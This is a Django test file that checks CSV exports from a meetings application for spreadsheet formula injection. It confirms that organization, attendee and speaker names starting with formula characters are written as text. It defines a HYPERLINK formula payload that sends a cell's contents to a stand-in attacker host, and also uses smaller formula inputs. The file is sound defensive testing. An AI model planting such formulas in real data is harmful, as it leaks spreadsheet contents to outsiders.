"""CSV exports open in a spreadsheet: a cell someone else typed never runs as a formula."""

import csv
import io
from datetime import timedelta

from django.test import Client
from django.urls import reverse
from django.utils import timezone

import pytest

from meetings.exports import neutralize
from meetings.models import SideEvent
from meetings.services import side_events
from stakeholders.enums import ApplicationStatus
from stakeholders.services import proposed_lists
from tests.meetings.factories import DelegationFactory, RoomFactory
from tests.speakers.factories import SpeakersListFactory, inscribe
from tests.stakeholders.factories import ApplicationFactory, CivilSocietyProcessFactory

pytestmark = pytest.mark.django_db

LINK = '=HYPERLINK("http://evil.example/?leak="&A2,"Open")'


def rows(response) -> list[list[str]]:
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    return list(csv.reader(io.StringIO(response.content.decode())))


@pytest.mark.parametrize(
    ("typed", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+33 1 23", "'+33 1 23"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Mr. = Ms.", "Mr. = Ms."),
        ("", ""),
        (None, ""),
        (-3, "-3"),
    ],
)
def test_a_cell_that_would_start_a_formula_is_written_as_text(typed, written):
    assert neutralize(typed) == written


def test_the_public_civil_society_list_csv_neutralizes_an_organizations_name(client):
    process = CivilSocietyProcessFactory()
    ApplicationFactory(process=process, name=LINK, status=ApplicationStatus.SHORTLISTED)
    proposed = proposed_lists.build_proposed_list(process=process)
    proposed_lists.submit_to_member_states(
        proposed_list=proposed, deadline=timezone.now() + timedelta(days=1)
    )

    table = rows(client.get(reverse("stakeholders:public_list_csv", args=[process.meeting.slug])))

    assert table[0][0] == "Organization"
    assert table[1][0] == "'" + LINK


def test_the_side_event_registrations_csv_neutralizes_an_attendees_name(staff_user):
    event = SideEvent.objects.create(
        title="Working roundtable", slug="roundtable", organizer=DelegationFactory(),
        room=RoomFactory(name="Conference Room 8"), starts_at=timezone.now() + timedelta(days=3),
        ends_at=timezone.now() + timedelta(days=3, hours=1), seats=5,
        registration_closes_at=timezone.now() + timedelta(days=2), contact_name="Ms Irina",
        contact_email="c@example.org", is_published=True,
    )  # fmt: skip
    side_events.register(
        side_event=event, delegation=DelegationFactory(name="Qatar"), attendee_name=LINK,
        attendee_function="@SUM(1+1)", wishes_to_speak=False, actor=None,
    )  # fmt: skip
    client = Client()
    client.force_login(staff_user)

    table = rows(client.get(reverse("meetings:side_event_csv", args=[event.slug])))

    assert table[1][:3] == ["Qatar", "'" + LINK, "'@SUM(1+1)"]


def test_the_staff_list_of_speakers_csv_neutralizes_a_speakers_name(staff_client):
    speakers_list = SpeakersListFactory()
    inscribe(speakers_list, DelegationFactory(name="Nepal"), speaker_name=LINK, function="-1+1")

    table = rows(
        staff_client.get(reverse("admin:speakers_speakerslist_csv", args=[speakers_list.pk]))
    )

    assert table[1][1:6] == ["Nepal", "", "H.E. Ms.", "'" + LINK, "'-1+1"]
